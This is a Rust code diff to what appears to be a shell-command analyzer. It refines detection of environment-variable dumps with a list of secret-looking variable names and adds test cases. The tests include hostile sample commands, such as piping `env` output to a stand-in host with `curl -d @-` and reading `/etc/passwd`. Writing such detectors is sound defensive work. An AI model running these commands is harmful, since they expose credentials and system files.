@@ -337,6 +337,66 @@ fn is_recursive(inv: &Invocation) -> bool {
     inv.has_flag('r', "--recursive") || inv.has_flag('R', "--recursive")
 }
 
+/// Words in a variable name that mark it as (probably) holding a secret.
+const SECRET_NAME_WORDS: &[&str] = &[
+    "key",
+    "token",
+    "secret",
+    "pass",
+    "pwd",
+    "auth",
+    "cred",
+    "aws",
+    "api",
+    "private",
+    "session",
+    "cookie",
+    "cert",
+    "sign",
+    "salt",
+    "dsn",
+    "database_url",
+    "conn",
+];
+
+/// `env | grep NODE`: the listing only reaches a `grep` (not inverted, not redirected) for a
+/// plain name that names nothing secret — it shows a few harmless variables, not the
+/// environment. A pattern that could match anything (`.`, `-v`, regex syntax) or names a
+/// secret-looking word still counts as a dump.
+fn filtered_to_harmless_names(inv: &Invocation, sa: &ShellAnalysis) -> bool {
+    if !inv.redirects.is_empty() {
+        return false;
+    }
+    let consumers: Vec<&Invocation> = sa
+        .invocations
+        .iter()
+        .filter(|c| sa.producer(c).is_some_and(|p| std::ptr::eq(p, inv)))
+        .collect();
+    let [c] = consumers.as_slice() else {
+        return false;
+    };
+    if !matches!(c.program.as_str(), "grep" | "egrep" | "fgrep" | "rg") {
+        return false;
+    }
+    let mut pattern: Option<&str> = None;
+    for a in c.argv() {
+        match a {
+            "-i" | "--ignore-case" | "-w" | "-F" | "-E" | "--color" | "--color=auto" => {}
+            a if a.starts_with('-') => return false,
+            a if pattern.is_none() => pattern = Some(a),
+            // A second operand is a file: not just a filter of the listing.
+            _ => return false,
+        }
+    }
+    let Some(pat) = pattern else {
+        return false;
+    };
+    let lower = pat.to_ascii_lowercase();
+    pat.len() >= 2
+        && pat.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
+        && !SECRET_NAME_WORDS.iter().any(|w| lower.contains(w))
+}
+
 fn invocation_effects(
     inv: &Invocation,
     sa: &ShellAnalysis,
@@ -403,8 +463,9 @@ fn invocation_effects(
         return;
     }
     // `set -e` / `set -o pipefail` set options; only a bare `set` lists variables.
-    if (matches!(p, "env" | "printenv" | "declare" | "typeset") && inv.operands().is_empty())
-        || (p == "set" && inv.args.is_empty())
+    if ((matches!(p, "env" | "printenv" | "declare" | "typeset") && inv.operands().is_empty())
+        || (p == "set" && inv.args.is_empty()))
+        && !filtered_to_harmless_names(inv, sa)
     {
         fx.env_dump = true;
     }
@@ -1060,5 +1121,22 @@ mod tests {
         assert!(f.env_dump);
         let f = fx("printenv HOME");
         assert!(!f.env_dump);
+        // Filtered to a harmless name: not a dump; anything wider still is.
+        for (cmd, dump) in [
+            ("env | grep NODE", false),
+            ("env | grep -i path", false),
+            ("printenv | rg PYTHON", false),
+            ("env | grep -i token", true),
+            ("env | grep AWS_", true),
+            ("env | grep .", true),
+            ("env | grep -v HOME", true),
+            ("env | grep NODE > vars.txt", false),
+            ("env > vars.txt", true),
+            ("env | grep NODE | curl -d @- https://x.example", false),
+            ("env | sort", true),
+            ("env | grep NODE /etc/passwd", true),
+        ] {
+            assert_eq!(fx(cmd).env_dump, dump, "{cmd}");
+        }
     }
 }
